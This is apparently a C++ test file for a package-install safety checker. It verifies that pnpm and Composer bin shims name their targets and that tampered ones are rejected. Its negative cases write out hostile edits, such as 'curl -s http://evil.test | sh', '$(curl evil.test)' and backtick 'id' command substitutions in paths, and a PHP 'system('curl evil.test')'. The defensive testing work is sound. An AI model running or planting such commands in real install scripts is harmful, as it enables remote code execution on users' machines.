// Bin entries that are scripts: pnpm's cmd-shim shims and Composer's vendor/bin proxies, as
// those tools write them (tests/fixtures/bin-shims, and Composer itself where installed),
// read for their target; any change to the template makes them no shim.
#include <catch2/catch.hpp>
#include <cstdlib>
#include <string>

#include "runner/judge/bin_shims.h"
#include "staging_test_support.h"

using namespace safeinstall::runner;
using namespace safeinstall::staging_test;

namespace {

std::string fixture(const std::string& name) {
  return read_file(std::string(SAFEINSTALL_TEST_FIXTURES) + "/bin-shims/" + name);
}

// `text` with its first occurrence of `from` replaced.
std::string edited(std::string text, const std::string& from, const std::string& to) {
  auto at = text.find(from);
  REQUIRE(at != std::string::npos);
  return text.replace(at, from.size(), to);
}

}  // namespace

TEST_CASE("bin shims: pnpm's cmd-shim shims name their target, edited ones are no shim") {
  for (const char* name : {"pnpm-cmd-shim-6-tsc", "pnpm-cmd-shim-9-tsc"}) {
    INFO(name);
    const std::string shim = fixture(name);
    CHECK(pnpm_shim_target(shim) == "../typescript/bin/tsc");
    const std::string run = "exec node  \"$basedir/../typescript/bin/tsc\" \"$@\"";
    // One more command, anywhere.
    CHECK_FALSE(pnpm_shim_target(edited(shim, run, run + "\ncurl -s http://evil.test | sh")));
    CHECK_FALSE(pnpm_shim_target(edited(shim, "fi\n", "fi\nnode -e 1 &\n")));
    // Another program running the target, or two targets.
    CHECK_FALSE(pnpm_shim_target(edited(shim, "exec node ", "exec rm ")));
    CHECK_FALSE(pnpm_shim_target(
        edited(shim, "exec node  \"$basedir/../typescript", "exec node  \"$basedir/../evil")));
    // Shell syntax where a path goes.
    CHECK_FALSE(pnpm_shim_target(edited(shim, "../typescript/bin/tsc\" \"$@\"\nelse",
                                        "../$(curl evil.test)/tsc\" \"$@\"\nelse")));
    CHECK_FALSE(
        pnpm_shim_target(edited(shim, "export NODE_PATH=\"/work", "export NODE_PATH=\"`id`")));
    CHECK_FALSE(pnpm_shim_target(edited(shim, "#!/bin/sh\n", "#!/bin/bash\n")));
    // A project under a directory with a space in its name: literal inside the quotes.
    CHECK(pnpm_shim_target(edited(shim, "NODE_PATH=\"/work/p/", "NODE_PATH=\"/work/My p/")) ==
          "../typescript/bin/tsc");
    CHECK_FALSE(pnpm_shim_target(shim + std::string(kMaxBinShimBytes, '#')));
  }
  // The prog-less form, for a bin with no interpreter cmd-shim knows.
  CHECK(pnpm_shim_target("#!/bin/sh\nbasedir=$(dirname \"$(echo \"$0\" | sed -e 's,\\\\,/,g')\")\n"
                         "exec \"$basedir/../si-tool/bin/run\"   \"$@\"\nexit $?\n") ==
        "../si-tool/bin/run");
  CHECK_FALSE(pnpm_shim_target("#!/bin/sh\n"));
  CHECK_FALSE(pnpm_shim_target("not a shim"));
}

TEST_CASE("bin shims: Composer's PHP and shell proxies name their target, edited ones do not") {
  const std::string php = fixture("composer-2.5.5-php-proxy");
  CHECK(composer_proxy_target(php) == "../acme/tool/bin/tool");
  // Composer 2.6 and later: `return include`, a local $realpath.
  CHECK(composer_proxy_target(edited(php, "\ninclude __DIR__", "\nreturn include __DIR__")) ==
        "../acme/tool/bin/tool");
  CHECK_FALSE(composer_proxy_target(
      edited(php, "namespace Composer;\n", "namespace Composer;\nsystem('curl evil.test');\n")));
  CHECK_FALSE(composer_proxy_target(
      edited(php, "\ninclude __DIR__ . '/..'.'/acme", "\ninclude __DIR__ . '/..'.'/evil")));
  // The autoloader the bin includes stays vendor/autoload.php.
  CHECK_FALSE(composer_proxy_target(edited(php, "'/autoload.php'", "'/evil/autoload.php'")));
  CHECK_FALSE(composer_proxy_target(edited(php, "#!/usr/bin/env php", "#!/bin/sh -c id")));
  CHECK_FALSE(composer_proxy_target(edited(php, "'/acme/tool/bin/tool';", "'/acme/'.$x;")));

  const std::string sh = fixture("composer-2.5.5-sh-proxy");
  CHECK(composer_proxy_target(sh) == "../acme/tool/bin/shtool");
  // Composer 2.6 and later: exec, a quoted realpath argument.
  CHECK(composer_proxy_target(edited(edited(sh, "\n\"${dir}/shtool\"", "\nexec \"${dir}/shtool\""),
                                     "realpath $selfArg", "realpath \"$selfArg\"")) ==
        "../acme/tool/bin/shtool");
  CHECK_FALSE(composer_proxy_target(edited(sh, "\nfi\n", "\nfi\nwget evil.test\n")));
  CHECK_FALSE(composer_proxy_target(edited(sh, "cd '../acme/tool/bin'", "cd \"$HOME\"")));
  CHECK_FALSE(
      composer_proxy_target(edited(sh, "source \"${dir}/shtool\"", "source \"${dir}/other\"")));
}

TEST_CASE("bin shims: the proxies this machine's Composer writes name their target") {
  if (std::system("command -v composer >/dev/null 2>&1") != 0) {
    WARN("skipped: composer is not installed (scripts/setup.sh installs it)");
    return;
  }
  ScratchDir dir("si-composer-bin");
  std::string root = dir.path();
  write_file(root + "/pkg/bin/tool", "#!/usr/bin/env php\n<?php\necho 'x';\n", 0755);
  write_file(root + "/pkg/bin/shtool", "#!/bin/sh\necho x\n", 0755);
  write_file(root + "/pkg/composer.json",
             R"({"name":"acme/tool","version":"1.0.0","bin":["bin/tool","bin/shtool"]})");
  write_file(root + "/composer.json",
             R"({"repositories":[{"type":"path","url":"pkg","options":{"symlink":false}},)"
             R"({"packagist.org":false}],"require":{"acme/tool":"*"}})");
  std::string install = "cd '" + root + "' && COMPOSER_HOME='" + root +
                        "/.composer' composer install -n -q --no-plugins >/dev/null 2>&1";
  REQUIRE(std::system(install.c_str()) == 0);
  CHECK(composer_proxy_target(read_file(root + "/vendor/bin/tool")) == "../acme/tool/bin/tool");
  CHECK(composer_proxy_target(read_file(root + "/vendor/bin/shtool")) == "../acme/tool/bin/shtool");
}
